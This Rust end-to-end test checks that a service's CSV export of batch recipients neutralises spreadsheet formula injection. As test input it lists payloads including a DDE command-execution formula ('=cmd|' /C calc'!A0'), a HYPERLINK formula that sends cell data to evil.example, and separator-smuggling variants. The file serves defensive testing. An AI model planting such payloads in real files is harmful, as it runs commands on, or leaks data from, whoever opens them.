//! Exported lists that a spreadsheet opens: no cell of one is a formula, whatever stood in the list and in texts.

use super::{ask, batch, create, id_of, wait};
use crate::endtoend::fixture::Place;
use crate::endtoend::service::Service;

#[test]
fn no_cell_of_an_export_is_a_formula_whatever_separates_cells() {
    let service = Service::start(Place::new(1, 1));
    let key = service.key("operator");
    let names = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u{ff1d}1+1",
        "\u{ff20}SUM(1)",
        "Anna;=1+1;b",
        "Anna\t=1+1",
        "Anna\n=1+1\n",
        "Anna\r\n@SUM(1)",
        "Anna\";=1+1",
        "Anna\",=1+1",
        "Anna,=1+1",
        "\"=1+1",
        "; -1+1",
        "\0=1+1",
    ];
    let numbers: Vec<String> = (10..10 + names.len()).map(|row| format!("+86139000000{row}")).collect();
    let mut people: Vec<(&str, &str)> = numbers.iter().map(String::as_str).zip(names).collect();
    // What is no number is listed as it stands, too.
    people.extend(names.iter().map(|name| (*name, "broken")));
    let id = id_of(&create(&service, &key, "k", &batch("{{name}}", &people)));
    wait(&service, &key, &id, super::is_prepared);
    let csv =
        ask(&service, &key, "GET", &format!("/v1/batches/{id}/recipients?format=csv&text=true"), "Accept: text/csv\r\n", "");
    assert_eq!(csv.status, 200, "{csv:?}");
    let body = csv.body;
    assert!(body.contains("cmd|") && body.contains("broken") || body.contains("SUM(1)"), "{body}");
    let mut cells = 0;
    for delimiter in [b',', b';', b'\t'] {
        for quoting in [true, false] {
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .delimiter(delimiter)
                .quoting(quoting)
                .from_reader(body.as_bytes());
            for record in reader.records() {
                // Between other separators, and where a comma stays a comma, quotes and blanks may come first.
                for cell in record.expect("a record").iter().filter(|_| delimiter != b',' || quoting) {
                    let text = cell.trim_matches([' ', '"']);
                    cells += 1;
                    // The number stands first in its line, which is one cell where commas separate none.
                    let first = if delimiter == b',' { text } else { text.split(',').next().unwrap_or_default() };
                    let digits = first.strip_prefix(['+', '-']).unwrap_or_default();
                    let signed = !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit());
                    let formula =
                        text.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', '\t', '\r']);
                    assert!(!formula || signed, "cell {cell:?} between {:?}", char::from(delimiter));
                }
            }
        }
    }
    assert!(cells > 500, "{cells}");
    service.stop().ended(0);
}
